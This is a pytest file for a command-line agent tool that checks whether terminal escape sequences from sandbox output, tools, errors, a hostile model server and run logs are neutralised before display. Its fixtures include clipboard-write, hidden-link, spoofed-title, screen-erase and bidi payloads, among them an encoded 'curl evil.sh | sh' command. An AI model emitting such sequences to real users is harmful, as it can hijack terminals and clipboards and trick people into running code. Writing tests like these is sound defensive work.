"""Attacks on the user's terminal: text from the sandbox, the model or the run log is shown as data.

Issue 8 item 9: OSC 52 (clipboard write), OSC 8 (hidden links), cursor movement and erase, and
window titles got from model code to the user's terminal through the live view, `codeact show`
and the answer on stdout. Each attack here runs `codeact run` as a user does (a subprocess, the
default isolated sandbox, a real HTTP model server that may itself be hostile) and checks on the
host that no raw control sequence reached any output, that the text is still there as visible
escapes, and that the run ended with a status instead of a crash.
"""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
import time
from pathlib import Path

from tests.cli._helpers import REPO, cli, codeact, env_for, fenced, no_control
from tests.servers.chat_server import ChatServer, chat, error

CLIPBOARD = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"  # as Python source: writes the clipboard
LINK = "\\x1b]8;;https://evil.example/\\x1b\\\\innocent text\\x1b]8;;\\x1b\\\\"
TITLE = "\\x1b]0;sudo password:\\x07"
CURSOR = "\\x1b[5A\\x1b[2K\\x1b[H\\x1b[2J\\x1b[10;10H"
C1 = "\\x9b31m\\x9d0;t\\x9c"
BIDI = "\\u202etxt.exe"
RAW = ["\x1b]52", "\x1b]8", "\x1b]0", "\x1b[5A", "\x1b[2J", "\x1b[H", "\x1b[10;10H", "\x9b", "\x9d", "\u202e"]


def run(home: Path, task: str, *replies, extra=()) -> subprocess.CompletedProcess:
    with ChatServer(list(replies)) as server:
        return codeact(home, "run", task, "--model", f"openai-compat:{server.url}#m", *extra)


def assert_inert(*outputs: str) -> None:
    for out in outputs:
        assert "\x1b" not in out and no_control(out), repr(out[:300])


def run_of(home: Path) -> dict:
    (record,) = [json.loads(line) for line in cli(home, "runs", "--json").stdout.splitlines()]
    return record


def test_clipboard_link_and_title_from_sandbox_output_never_reach_the_terminal(tmp_path):
    code = f"print('{CLIPBOARD} {LINK} {TITLE} {CURSOR} {C1} {BIDI}')"
    proc = run(tmp_path, "Print something", chat(fenced(code)), chat(fenced("final_answer('ok')")))
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    assert CLIPBOARD in proc.stderr and TITLE in proc.stderr and "innocent text" in proc.stderr
    shown = cli(tmp_path, "show", run_of(tmp_path)["id"])
    assert shown.exit_code == 0
    assert_inert(shown.stdout)
    assert CLIPBOARD in shown.stdout and "\\x9b31m" in shown.stdout and "\\u202etxt.exe" in shown.stdout


def test_the_answer_on_stdout_cannot_drive_the_terminal_and_json_keeps_it_exact(tmp_path):
    answer = f"42 {LINK} {TITLE} {C1} {BIDI}"
    code = f"final_answer('{answer}')"
    piped = run(tmp_path, "Answer", chat(fenced(code)), extra=["--quiet"])
    assert piped.returncode == 0, piped.stderr
    assert_inert(piped.stdout)
    assert piped.stdout.startswith("42 \\x1b]8;;https://evil.example/")
    as_json = run(tmp_path, "Answer", chat(fenced(code)), extra=["--json"])
    assert_inert(as_json.stdout)
    exact = json.loads(as_json.stdout)["output"]
    assert exact == eval(f"'{answer}'")  # noqa: S307 - the literal above, decoded as the kernel did


def test_escapes_in_a_real_terminal(tmp_path):
    """Under a pseudo-terminal Rich draws colours and its status line; nothing of the payload is raw."""
    code = f"print('{CLIPBOARD} {TITLE} {CURSOR} {C1}')\nfinal_answer('{TITLE}{CURSOR}done')"
    with ChatServer([chat(fenced(code, thought="Sure \x1b]0;hijacked\x07 [/]"))]) as server:
        main, child = pty.openpty()
        proc = subprocess.Popen([sys.executable, "-m", "codeact", "run", "Show [/] it", "--model",
                                 f"openai-compat:{server.url}#m"], stdin=child, stdout=child, stderr=child,
                                env=env_for(tmp_path, TERM="xterm-256color", COLUMNS="120"), cwd=REPO)
        os.close(child)
        seen, deadline = b"", time.monotonic() + 90
        while time.monotonic() < deadline:
            if select.select([main], [], [], 0.2)[0]:
                try:
                    seen += os.read(main, 65536)
                except OSError:
                    break
            elif proc.poll() is not None:
                break
        os.close(main)
    assert proc.wait(timeout=30) == 0
    text = seen.decode("utf-8")
    for raw in RAW:
        assert raw not in text, raw
    assert "\x07" not in text
    assert "hijacked" in text and "Show [/] it" in text and "done" in text
    # What is left is Rich's own: SGR colours and the status line's erase/up/hide-cursor.
    for sequence in re.findall(r"\x1b\[[0-9;?]*[A-Za-z]", text):
        assert re.fullmatch(r"\x1b\[(?:[0-9;]*m|2K|1A|\?25[lh]|[0-9]*G)", sequence), repr(sequence)


def test_markup_in_task_and_output_neither_crashes_nor_hides_text(tmp_path):
    task = "[/] Find words matching [a-z]+ then [link=file:///etc/passwd]click[/link] [bold"
    code = "print('[/] [red]x[/red] [link=https://evil.example]here[/link]')\nfinal_answer('[/]')"
    proc = run(tmp_path, task, chat(fenced(code)))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "[/]\n"
    assert task in proc.stderr and "[/] [red]x[/red] [link=https://evil.example]here[/link]" in proc.stderr
    record = run_of(tmp_path)
    assert record["status"] == "success"
    shown = cli(tmp_path, "show", record["id"])
    assert shown.exit_code == 0 and task in shown.stdout
    assert task in cli(tmp_path, "runs", columns=300).stdout


def test_tool_arguments_results_and_errors_are_shown_as_data(tmp_path):
    tools = tmp_path / "evil_tools.py"
    tools.write_text(
        "def fetch(url: str) -> str:\n"
        "    'Fetch a page.'\n"
        "    return 'page \\x1b]52;c;ZXZpbA==\\x07 [/] body'\n"
        "def boom(x: str) -> str:\n"
        "    'Fail.'\n"
        "    raise RuntimeError('bad \\x1b]0;title\\x07 [/]')\n"
    )
    code = ("print(fetch('http://x/\\x1b[2J[/]'))\n"
            "try:\n    boom('\\x9b2J')\nexcept Exception as exc:\n    print('caught', exc)\n"
            "final_answer(fetch('y'))")
    proc = run(tmp_path, "Fetch", chat(fenced(code)), extra=["--tool", f"{tools}:fetch", "--tool", f"{tools}:boom"])
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    assert "↳ tool fetch(" in proc.stderr and "↳ tool boom(" in proc.stderr
    assert "page \\x1b]52;c;ZXZpbA==\\x07 [/] body" in proc.stdout
    assert "bad \\x1b]0;title\\x07 [/]" in proc.stderr
    shown = cli(tmp_path, "show", run_of(tmp_path)["id"])
    assert_inert(shown.stdout)
    assert "page \\x1b]52;c;ZXZpbA==\\x07 [/] body" in shown.stdout


def test_exception_messages_from_the_sandbox_are_shown_as_data(tmp_path):
    code = f"raise ValueError('{TITLE} {CLIPBOARD} [/]')"
    proc = run(tmp_path, "Fail", chat(fenced(code)), chat(fenced("final_answer(1)")))
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    assert "ValueError" in proc.stderr and TITLE in proc.stderr and "[/]" in proc.stderr


def test_a_hostile_model_server_error_is_shown_as_data(tmp_path):
    proc = run(tmp_path, "Hi", error(400, "\x1b]0;pwned\x07 \x1b[2J [bold red]fake[/] [/] \x9b1A"))
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert_inert(proc.stderr)
    assert "\\x1b]0;pwned\\x07" in proc.stderr and "[bold red]fake[/] [/]" in proc.stderr


def test_lone_surrogates_and_bidi_in_the_answer_do_not_crash_the_output(tmp_path):
    code = "import os\nname = os.fsdecode(b'caf\\xe9.txt')\nprint(name)\nfinal_answer(name + ' \\u202eexe.txt')"
    proc = run(tmp_path, "Name a file", chat(fenced(code)))
    assert proc.returncode == 0, proc.stderr
    assert_inert(proc.stdout, proc.stderr)
    assert proc.stdout == "caf\\udce9.txt \\u202eexe.txt\n"
    as_json = run(tmp_path, "Name a file", chat(fenced(code)), extra=["--json"])
    assert json.loads(as_json.stdout)["output"] == "caf\udce9.txt \u202eexe.txt"


def test_a_crafted_run_log_is_shown_as_data(tmp_path):
    """A run log is written by models and sandboxes (or by anyone who can write the file)."""
    from codeact.runs.store import RunStore

    store = RunStore(tmp_path / "runs.db")
    store.create_run(run_id="[red]\x1b]0;x", task="\x1b]52;c;ZXZpbA==\x07 [/] task", agent="code",
                     model="[link=https://evil.example]m[/link]\x1b[2J")
    store.update_run("[red]\x1b]0;x", status="interrupted", error="\x1b]8;;http://evil\x07oops [/]")
    store.close()
    listed = cli(tmp_path, "runs", "--store", str(tmp_path / "runs.db"), columns=300)
    assert listed.exit_code == 0, listed.output
    assert_inert(listed.stdout)
    assert "\\x1b]52;c;ZXZpbA==\\x07 [/] task" in listed.stdout and "[red]\\x1b]0;x" in listed.stdout
    assert "[link=https://evil.exa" in listed.stdout  # the model column is cut, not parsed
    shown = cli(tmp_path, "show", "[red]", "--store", str(tmp_path / "runs.db"))
    assert shown.exit_code == 0, shown.output
    assert_inert(shown.stdout)
    assert "\\x1b]8;;http://evil\\x07oops [/]" in shown.stdout
    as_json = cli(tmp_path, "runs", "--json", "--store", str(tmp_path / "runs.db"))
    assert_inert(as_json.stdout)
    assert json.loads(as_json.stdout)["task"] == "\x1b]52;c;ZXZpbA==\x07 [/] task"
